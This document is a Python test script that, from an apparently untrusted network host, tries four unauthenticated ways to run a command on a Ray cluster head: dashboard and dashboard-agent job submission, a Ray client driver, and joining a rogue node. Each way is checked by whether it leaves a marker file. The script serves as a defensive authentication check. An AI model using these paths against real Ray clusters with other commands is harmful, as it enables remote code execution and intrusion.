"""Run on a host of the network that was given no token: tries the ways into a Ray head, each of which shall leave a
file there. Prints a line of JSON: way → what became of it.

usage: python tests/intruder.py HEAD_ADDRESS NOTE
"""

from __future__ import annotations

import json
import os
import subprocess
import sys
import urllib.error
import urllib.request
from collections.abc import Callable
from concurrent.futures import ThreadPoolExecutor

SECONDS = 60
"""Of each way. A Ray client that is let in may take more than 12: its server starts a process for it."""
DRIVER = """
import ray, sys
ray.init(address={address!r}, log_to_driver=False)
head = next(node["NodeID"] for node in ray.nodes() if node["NodeManagerAddress"] == {head!r})
from ray.util.scheduling_strategies import NodeAffinitySchedulingStrategy
where = NodeAffinitySchedulingStrategy(head, soft=False)
task = ray.remote(lambda: open({note!r}, "w").close()).options(num_cpus=0, scheduling_strategy=where)
ray.get(task.remote(), timeout=10)
"""


def job(port: int, path: str) -> Callable[[str, str], str]:
    """A job by HTTP, as ``ray job submit`` sends it."""

    def attempt(head: str, note: str) -> str:
        body = json.dumps({"entrypoint": f"touch {note}"}).encode()
        headers = {"Content-Type": "application/json"}
        if token := os.environ.get("RAY_AUTH_TOKEN"):
            headers["Authorization"] = f"Bearer {token}"
        request = urllib.request.Request(f"http://{head}:{port}{path}", body, headers)
        try:
            with urllib.request.urlopen(request, timeout=SECONDS) as answer:
                return f"{answer.status}"
        except urllib.error.HTTPError as error:
            return f"{error.code}"
        except OSError as error:
            return f"{error}"

    return attempt


def driver(port: int, scheme: str = "") -> Callable[[str, str], str]:
    """A driver that joins by the address and asks for a task on the head."""

    def attempt(head: str, note: str) -> str:
        code = DRIVER.format(address=f"{scheme}{head}:{port}", head=head, note=note)
        try:
            done = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, timeout=SECONDS)
        except subprocess.TimeoutExpired:
            return "no answer"
        return "ran" if done.returncode == 0 else done.stderr.strip().splitlines()[-1]

    return attempt


def node(head: str, note: str) -> str:
    """A node of the intruder's own that joins by the address alone, and a driver on it."""
    start = [str(os.path.join(os.path.dirname(sys.executable), "ray")), "start", f"--address={head}:6379"]
    try:
        subprocess.run(start, capture_output=True, text=True, timeout=SECONDS)
    except subprocess.TimeoutExpired:
        return "no answer"
    return driver(6379)(head, note)


WAYS: dict[str, Callable[[str, str], str]] = {
    "dashboard": job(8265, "/api/jobs/"),
    "dashboard agent": job(52365, "/api/job_agent/jobs/"),
    "Ray client": driver(10001, "ray://"),
    "node": node,
}


def main() -> None:
    head, note = sys.argv[1:]
    with ThreadPoolExecutor() as pool:
        tried = {name: pool.submit(way, head, f"{note}-{place}") for place, (name, way) in enumerate(WAYS.items())}
    print(json.dumps({name: one.result() for name, one in tried.items()}))


if __name__ == "__main__":
    main()
